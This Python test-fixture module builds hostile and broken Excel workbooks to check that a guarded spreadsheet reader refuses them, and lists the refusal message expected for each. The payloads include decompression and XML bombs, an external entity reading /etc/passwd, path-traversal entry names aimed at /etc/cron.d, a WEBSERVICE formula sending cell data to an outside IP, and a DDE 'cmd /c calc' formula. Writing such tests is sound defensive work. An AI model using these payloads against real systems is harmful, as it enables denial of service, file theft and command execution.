"""Workbooks that were made to harm whoever opens them, or that broke on their way. Made here, byte by byte."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import NamedTuple

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
HEADER = ("单位名称", "岗位名称", "需求人数")
MIB = 1 << 20


def inline(text: str) -> str:
    """A cell that holds its own text."""
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


def row(*texts: str) -> str:
    return f"<row>{''.join(map(inline, texts))}</row>"


def sheet(rows: str, *, behind: str = "", before: str = "") -> str:
    """The XML of a worksheet."""
    return f"{before}<worksheet {MAIN}><sheetData>{rows}</sheetData>{behind}</worksheet>"


def parts(sheet_xml: str | bytes, more: Mapping[str, str | bytes] | None = None) -> dict[str, str | bytes]:
    """The smallest set of parts that is a workbook with one sheet."""
    return {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}"><Relationship Id="a" Type="{OFFICE}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {MAIN} xmlns:r="{OFFICE}"><sheets><sheet name="人才" sheetId="1" r:id="s"/>'
        "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}">'
        f'<Relationship Id="s" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="t" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
        f'<Relationship Id="f" Type="{OFFICE}/styles" Target="styles.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet_xml,
        **(more or {}),
    }


def pack(files: Mapping[str, str | bytes]) -> bytes:
    """A zip archive of these parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return stream.getvalue()


def workbook(sheet_xml: str | bytes, more: Mapping[str, str | bytes] | None = None) -> bytes:
    return pack(parts(sheet_xml, more))


LIST = sheet(row(*HEADER) + row("沟渠公司", "工程师", "3"))


def zip_bomb() -> bytes:
    return workbook(LIST, {"xl/media/image1.png": b"\0" * (300 * MIB)})


def sheet_bomb() -> bytes:
    return workbook(sheet("<row/>" * (50 * MIB)))


def cell_bomb() -> bytes:
    return workbook(sheet("<row>" + "<c/>" * (60 * MIB) + "</row>"))


def formatted_emptiness() -> bytes:
    return workbook(sheet(f"<row>{'<c/>' * 16_000}</row>" * 1_000))


def one_cell_again() -> bytes:
    return workbook(sheet("<row>" + '<c r="A1"/>' * (20 * MIB) + "</row>"))


def flood_of_nothing() -> bytes:
    """Nothing in it that could be counted is too much, only the time it takes."""
    return workbook(sheet("<row>" + "<a/>" * (40 * MIB) + "</row>"))


def many_parts() -> bytes:
    return workbook(LIST, {f"xl/media/{i}.png": b"" for i in range(2_000)})


def directory_bomb() -> bytes:
    """An end record that announces a directory, made of a million copies of one entry."""
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 400_000
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(directory), 4, 0)
    return b"PK\x03\x04" + directory + end


def deep_xml() -> bytes:
    return workbook(sheet("<row>" + "<a>" * 2_000_000 + "</a>" * 2_000_000 + "</row>"))


def deep_workbook_part() -> bytes:
    deep = "<a>" * 1_000_000 + "</a>" * 1_000_000
    return workbook(LIST, {"xl/styles.xml": f"<styleSheet {MAIN}>{deep}</styleSheet>"})


def million_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{i} "{(chr(38) + f"l{i - 1};") * 10}">' for i in range(1, 10))
    return workbook(sheet(row("&l9;"), before=f'<!DOCTYPE a [<!ENTITY l0 "lol">{entities}]>'))


def external_entity() -> bytes:
    return workbook(sheet(row("&x;"), before='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))


def dtd_behind_utf_7() -> bytes:
    return workbook('<?xml version="1.0" encoding="UTF-7"?>' + LIST)


def utf_16_sheet() -> bytes:
    return workbook(('<?xml version="1.0" encoding="UTF-16"?>' + LIST).encode("utf-16"))


def million_merges() -> bytes:
    merges = "".join(f'<mergeCell ref="A{i}:A{i + 1}"/>' for i in range(1, 2_000_000, 2))
    return workbook(sheet(row(*HEADER), behind=f"<mergeCells>{merges}</mergeCells>"))


def merge_of_everything() -> bytes:
    """One text of 30,000 characters merged over all rows: copied into each it is 6 GB."""
    rows = row("长" * 30_000, *HEADER) + "".join(f"<row><c/>{inline('a')}{inline('b')}</row>" for _ in range(100_000))
    return workbook(sheet(rows, behind='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'))


def shared_text_bomb() -> bytes:
    """One shared text of 32,000 characters in a million cells."""
    shared = f"<sst {MAIN}><si><t>{'长' * 32_000}</t></si></sst>"
    cells = '<c t="s"><v>0</v></c>' * 10
    return workbook(sheet(f"<row>{cells}</row>" * 100_000), {"xl/sharedStrings.xml": shared})


def shared_text_flood() -> bytes:
    """Twelve million shared texts that no cell uses."""
    return workbook(LIST, {"xl/sharedStrings.xml": f"<sst {MAIN}>{'<si><t>a</t></si>' * (12 * MIB)}</sst>"})


def format_flood() -> bytes:
    return workbook(
        LIST, {"xl/styles.xml": f"<styleSheet {MAIN}><cellXfs>{'<xf/>' * 1_000_000}</cellXfs></styleSheet>"}
    )


def number_of_a_billion_digits() -> bytes:
    return workbook(sheet(row(*HEADER) + f"<row>{inline('甲')}{inline('乙')}<c><v>1E+999999999</v></c></row>"))


def huge_attribute() -> bytes:
    return workbook(f'<worksheet {MAIN} a="{"x" * (100 * MIB)}"><sheetData/></worksheet>')


def far_cell() -> bytes:
    return workbook(sheet(f'{row(*HEADER)}<row r="9"><c r="XFD9" t="inlineStr"><is><t>x</t></is></c></row>'))


def far_row() -> bytes:
    return workbook(sheet(f'{row(*HEADER)}<row r="9999999999">{inline("x")}</row>'))


def rows_backwards() -> bytes:
    return workbook(sheet(f'<row r="5">{inline("x")}</row><row r="4">{inline("y")}</row>'))


def two_cells_in_one_place() -> bytes:
    cell = '<c r="A1" t="inlineStr"><is><t>x</t></is></c>'
    return workbook(sheet(f'<row r="1">{cell}{cell}</row>'))


def text_that_is_not_there() -> bytes:
    return workbook(sheet('<row><c t="s"><v>7</v></c></row>'))


def endless_cell() -> bytes:
    return workbook(sheet(row(*HEADER) + row("甲", "乙" * 40_000, "1")))


def lone_surrogate_reference() -> bytes:
    return workbook(sheet(row("&#xD800;")))


def broken_xml() -> bytes:
    return workbook(f"<worksheet {MAIN}><sheetData><row></sheetData></worksheet>")


def million_rows_of_nothing() -> bytes:
    return workbook(sheet(row(*HEADER) + row("沟渠公司", "工程师", "3") + '<row><c s="1"/></row>' * (2**20 - 2)))


def too_many_rows() -> bytes:
    return workbook(sheet(row(*HEADER) + row("甲", "乙", "1") * 200_001))


def truncated() -> bytes:
    return workbook(LIST)[:-200]


def wrong_checksum() -> bytes:
    data = bytearray(workbook(LIST))
    at = data.index(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml") + 20
    data[at] ^= 0x55
    return bytes(data)


def wrong_crc_only() -> bytes:
    """The content is whole; the checksum in both directories is not."""
    files = parts(LIST)
    data = bytearray(pack(files))
    crc = struct.pack("<L", zlib.crc32(LIST.encode()))
    return bytes(data).replace(crc, struct.pack("<L", 0xDEADBEEF))


def climbing_names() -> bytes:
    return workbook(LIST, {"../../etc/cron.d/x": "x"})


def absolute_names() -> bytes:
    return workbook(LIST, {"/etc/cron.d/x": "x"})


def two_parts_of_one_name() -> bytes:
    stream = io.BytesIO(workbook(LIST))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("xl/worksheets/sheet2.xml", "a")
        archive.writestr("xl/worksheets/sheet3.xml", "b")
    return stream.getvalue().replace(b"sheet3.xml", b"sheet2.xml")


def macros() -> bytes:
    return workbook(LIST, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def binary_workbook() -> bytes:
    return pack({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"\x83\x01\x00"})


def open_document() -> bytes:
    return pack({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<office/>"})


def text_document() -> bytes:
    return pack({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"})


def plain_archive() -> bytes:
    return pack({"名单.csv": "a,b,c"})


def password_in_zip() -> bytes:
    """The flag that says the parts are encrypted, set in both directories."""
    data = bytearray(workbook(LIST))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def _ole(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1_000 + stream.encode("utf-16-le") + b"\0" * 1_000


def encrypted() -> bytes:
    return _ole("EncryptedPackage")


def old_format() -> bytes:
    return _ole("Workbook")


def formulas_that_call_out() -> bytes:
    cells = "".join(
        f"<c><f>{formula}</f>{value}</c>"
        for formula, value in (
            ("[1]Sheet1!A1", "<v>7</v>"),
            ('WEBSERVICE("http://192.0.2.1/"&amp;A1)', "<v></v>"),
            ("cmd|'/c calc'!A0", "<v></v>"),
        )
    )
    return workbook(sheet(row(*HEADER) + f"<row>{cells}</row>"))


def cells_that_hide() -> bytes:
    """Characters that turn the direction of writing or show nothing."""
    return workbook(sheet(row("\u202e单位名称", "岗\u200b位名称", "需求\u2066人数") + row("\u200f甲", "乙\ufeff", "3")))


class HostileFile(NamedTuple):
    file_name: str
    make: Callable[[], bytes]
    told: tuple[str, ...] | None
    """Words of the refusal; None where a guarded reader can read the file."""


def _xlsx(make: Callable[[], bytes], *told: str) -> HostileFile:
    return HostileFile("名单.xlsx", make, told or None)


WORKBOOKS: dict[str, HostileFile] = {
    "zip bomb": _xlsx(zip_bomb, "256 MiB"),
    "sheet bomb": _xlsx(sheet_bomb, "256 MiB"),
    "cell bomb": _xlsx(cell_bomb, "人才", "row 1", "more cells"),
    "formatted emptiness": _xlsx(formatted_emptiness, "人才", "empty cells"),
    "one cell again and again": _xlsx(one_cell_again, "人才", "row 1", "column “A”", "one place"),
    "2,000 parts": _xlsx(many_parts, "2,000 parts"),
    "directory bomb": _xlsx(directory_bomb, "2,000 parts"),
    "deep XML": _xlsx(deep_xml, "nested deeper"),
    "deep styles": _xlsx(deep_workbook_part, "nested deeper"),
    "million laughs": _xlsx(million_laughs, "DTD"),
    "external entity": _xlsx(external_entity, "DTD"),
    "UTF-7 sheet": _xlsx(dtd_behind_utf_7, "UTF-8"),
    "UTF-16 sheet": _xlsx(utf_16_sheet, "UTF-8"),
    "million merges": _xlsx(million_merges, "人才", "100,000 merged ranges"),
    "merge of everything": _xlsx(merge_of_everything, "人才", "256 MiB of text"),
    "shared text bomb": _xlsx(shared_text_bomb, "人才", "256 MiB of text"),
    "shared text flood": _xlsx(shared_text_flood, "shared texts"),
    "format flood": _xlsx(format_flood, "cell formats"),
    "number of a billion digits": _xlsx(number_of_a_billion_digits),
    "huge attribute": _xlsx(huge_attribute, "markup"),
    "far cell": _xlsx(far_cell, "人才", "row 9", "XFD", "512 columns"),
    "far row": _xlsx(far_row, "人才", "1,048,576 rows"),
    "rows backwards": _xlsx(rows_backwards, "人才", "row 5", "out of order"),
    "two cells in one place": _xlsx(two_cells_in_one_place, "人才", "row 1", "column “A”", "one place"),
    "text that is not there": _xlsx(text_that_is_not_there, "人才", "refers to what is not there"),
    "endless cell": _xlsx(endless_cell, "人才", "row 2", "column “B”", "32,767"),
    "lone surrogate": _xlsx(lone_surrogate_reference, "damaged"),
    "broken XML": _xlsx(broken_xml, "damaged"),
    "2^20 rows of nothing": _xlsx(million_rows_of_nothing),
    "too many rows": _xlsx(too_many_rows, "人才", "row 200002", "200,000 rows"),
    "truncated zip": _xlsx(truncated, "cut off or damaged"),
    "wrong data": _xlsx(wrong_checksum, "damaged"),
    "wrong CRC": _xlsx(wrong_crc_only, "damaged"),
    "climbing names": _xlsx(climbing_names, "leads out of it"),
    "absolute names": _xlsx(absolute_names, "leads out of it"),
    "two parts of one name": _xlsx(two_parts_of_one_name, "two parts of one name"),
    "macros": _xlsx(macros, "macros"),
    "xlsm": HostileFile("名单.xlsm", lambda: workbook(LIST), (".xlsm",)),
    "xlsb": _xlsx(binary_workbook, ".xlsb"),
    "ods": HostileFile("名单.ods", open_document, (".ods",)),
    "ods named xlsx": _xlsx(open_document, ".ods"),
    "docx named xlsx": _xlsx(text_document, ".docx"),
    "archive": _xlsx(plain_archive, "unpack it"),
    "archive named csv": HostileFile("名单.csv", plain_archive, ("right name",)),
    "password in zip": _xlsx(password_in_zip, "password"),
    "encrypted": _xlsx(encrypted, "encrypted", "remove the password"),
    "xls": HostileFile("名单.xls", old_format, (".xls", "save it as")),
    "xls named xlsx": _xlsx(old_format, ".xls", "save it as"),
    "formulas that call out": _xlsx(formulas_that_call_out),
    "cells that hide": _xlsx(cells_that_hide),
}
